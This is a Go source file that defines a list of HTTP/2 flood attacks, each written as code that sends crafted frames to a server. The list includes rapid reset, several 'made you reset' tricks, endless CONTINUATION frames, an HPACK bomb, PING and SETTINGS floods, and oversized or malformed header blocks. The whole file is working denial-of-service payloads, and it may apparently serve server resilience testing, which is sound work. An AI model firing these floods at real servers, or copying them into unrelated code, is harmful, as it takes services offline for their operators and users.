package flood

import (
	"bytes"
	"encoding/binary"
	"strings"

	"golang.org/x/net/http2"
)

// flood is a kind of attack.
type flood struct {
	name string
	// blind attackers read nothing until all is sent.
	blind    bool
	settings []http2.Setting
	// begin comes once. again comes as often as it takes, with its number, and gathers so many frames.
	begin  func(a *attacker)
	frames int
	again  func(a *attacker, i int)
}

func floods() []flood {
	var field [4 << 10]byte
	copy(field[:], bytes.Repeat([]byte("x"), len(field)))
	closed := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	return []flood{
		{name: "rapid reset", frames: 2, again: func(a *attacker, _ int) { a.WriteRSTStream(a.get("/"), http2.ErrCodeCancel) }},
		{name: "made you reset: a window of nothing", frames: 2, again: func(a *attacker, _ int) {
			a.WriteRawFrame(http2.FrameWindowUpdate, 0, a.get("/"), make([]byte, 4))
		}},
		{name: "made you reset: a window that overflows", frames: 2, again: func(a *attacker, _ int) {
			a.WriteWindowUpdate(a.get("/"), 1<<31-1)
		}},
		{name: "made you reset: data behind the end", frames: 2, again: func(a *attacker, _ int) { a.WriteData(a.get("/"), true, []byte("x")) }},
		{name: "made you reset: a body longer than announced", frames: 2, again: func(a *attacker, _ int) {
			a.WriteData(a.headers("POST", "/", false, true, "content-length", "1"), true, []byte("xx"))
		}},
		{name: "made you reset: a priority that depends on itself", frames: 2, again: func(a *attacker, _ int) {
			id := a.get("/")
			a.WritePriority(id, http2.PriorityParam{StreamDep: id})
		}},
		{name: "CONTINUATION of a byte, without end", frames: 1, begin: func(a *attacker) { a.headers("GET", "/", true, false) },
			again: func(a *attacker, _ int) { a.WriteContinuation(1, false, []byte{0x82}) }},
		{name: "CONTINUATION of nothing, without end", frames: 1, begin: func(a *attacker) { a.headers("GET", "/", true, false) },
			again: func(a *attacker, _ int) { a.WriteContinuation(1, false, nil) }},
		{name: "CONTINUATION of 16 KiB, without end", frames: 1, begin: func(a *attacker) { a.headers("GET", "/", true, false) },
			again: func(a *attacker, _ int) { a.WriteContinuation(1, false, bytes.Repeat([]byte{0x82}, 16<<10)) }},
		{name: "PING", frames: 1, again: func(a *attacker, _ int) { a.WritePing(false, [8]byte{}) }},
		{name: "PING, replies not read", blind: true, frames: 1, again: func(a *attacker, _ int) { a.WritePing(false, [8]byte{}) }},
		{name: "PING that nobody asked to be acknowledged", frames: 1, again: func(a *attacker, _ int) { a.WritePing(true, [8]byte{}) }},
		{name: "SETTINGS", frames: 1, again: func(a *attacker, _ int) { a.WriteSettings() }},
		{name: "SETTINGS, replies not read", blind: true, frames: 1, again: func(a *attacker, i int) {
			a.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i % 2 * 4096)})
		}},
		{name: "SETTINGS that shrink windows and open them", frames: 1, begin: func(a *attacker) {
			for range 50 {
				a.get("/long")
			}
		}, again: func(a *attacker, i int) {
			a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i % 2 * 100)})
		}},
		{name: "DATA of nothing", frames: 1, begin: func(a *attacker) { a.headers("POST", "/", false, true) },
			again: func(a *attacker, _ int) { a.WriteData(1, false, nil) }},
		{name: "DATA of padding", frames: 1, begin: func(a *attacker) { a.headers("POST", "/", false, true) },
			again: func(a *attacker, _ int) { a.WriteDataPadded(1, false, nil, make([]byte, 40)) }},
		{name: "PRIORITY", frames: 1, again: func(a *attacker, i int) {
			a.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3), Weight: uint8(i)})
		}},
		{name: "WINDOW_UPDATE of 1", frames: 1, again: func(a *attacker, _ int) { a.WriteWindowUpdate(0, 1) }},
		{name: "WINDOW_UPDATE of 1 on a stream", frames: 1, settings: closed, begin: func(a *attacker) { a.get("/long") },
			again: func(a *attacker, _ int) { a.WriteWindowUpdate(1, 1) }},
		{name: "WINDOW_UPDATE that overflows", frames: 1, again: func(a *attacker, _ int) { a.WriteWindowUpdate(0, 1<<31-1) }},
		{name: "HPACK bomb", frames: 1, begin: func(a *attacker) { a.headers("GET", "/", true, true, "x-bomb", string(field[:4000])) },
			again: func(a *attacker, _ int) {
				// RFC 7541 §6.1: 0xbe is the field that was put into the table last.
				block := append([]byte{0x82, 0x86, 0x84}, bytes.Repeat([]byte{0xbe}, 4000)...)
				a.WriteHeaders(http2.HeadersFrameParam{StreamID: a.next, BlockFragment: block, EndStream: true, EndHeaders: true})
				a.next += 2
			}},
		{name: "requests with thousands of fields", frames: 2, again: func(a *attacker, _ int) {
			a.headers("GET", "/", true, false, "x-many", strings.Repeat("y", 8<<10))
			a.WriteContinuation(a.next-2, true, bytes.Repeat([]byte("\x00\x01a\x01b"), 3000))
		}},
		{name: "names that are empty", frames: 1, again: func(a *attacker, _ int) {
			block := []byte("\x82\x86\x84\x00\x00\x01x")
			a.WriteHeaders(http2.HeadersFrameParam{StreamID: a.next, BlockFragment: block, EndStream: true, EndHeaders: true})
			a.next += 2
		}},
		{name: "frames of unknown types", frames: 1, again: func(a *attacker, i int) { a.WriteRawFrame(http2.FrameType(100+i%50), 0, 0, nil) }},
		{name: "RST_STREAM of streams that are idle", frames: 1, again: func(a *attacker, i int) {
			a.WriteRSTStream(uint32(2*i+1), http2.ErrCodeCancel)
		}},
		{name: "RST_STREAM of a stream that has ended", frames: 1, begin: func(a *attacker) { a.get("/") },
			again: func(a *attacker, _ int) { a.WriteRSTStream(1, http2.ErrCodeCancel) }},
		{name: "more streams than are allowed", frames: 1, again: func(a *attacker, _ int) { a.get("/wait") }},
		{name: "requests that are malformed", frames: 1, again: func(a *attacker, _ int) { a.headers("GET", "/", true, true, "connection", "close") }},
		{name: "trailers without an end", frames: 1, begin: func(a *attacker) { a.headers("POST", "/", false, true) },
			again: func(a *attacker, _ int) {
				a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}, EndHeaders: true})
			}},
		{name: "GOAWAY", frames: 1, again: func(a *attacker, _ int) { a.WriteGoAway(0, http2.ErrCodeNo, nil) }},
		{name: "PRIORITY_UPDATE", frames: 1, again: func(a *attacker, i int) {
			a.WriteRawFrame(0x10, 0, 0, append(binary.BigEndian.AppendUint32(nil, uint32(2*i+1)), "u=1"...)) // RFC 9218 §7.1
		}},
	}
}
